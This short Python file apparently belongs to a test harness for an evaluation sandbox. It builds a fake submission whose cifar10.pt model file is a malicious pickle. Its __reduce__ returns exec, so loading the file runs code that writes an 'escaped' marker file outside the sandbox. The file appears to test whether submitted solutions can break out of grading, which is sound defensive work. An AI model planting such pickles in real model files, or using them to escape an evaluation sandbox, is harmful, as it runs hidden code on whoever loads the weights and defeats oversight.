"""submission
attack: cifar10.pt is a pickle that runs code in the process that loads it
4.3 4.4: crashed
says: The weights cannot be loaded into build_model()
"""
import pickle
import shutil
from pathlib import Path

HONEST = Path(__file__).parents[2] / "honest"


class Payload:
    def __init__(self, code):
        self.code = code

    def __reduce__(self):
        return exec, (self.code,)


def make(folder, solution):
    shutil.copy(HONEST / "cifar10.py", solution)
    code = f"open({str(folder / 'outside' / 'escaped')!r}, 'w').close()"
    (solution / "cifar10.pt").write_bytes(pickle.dumps(Payload(code)))
    return solution
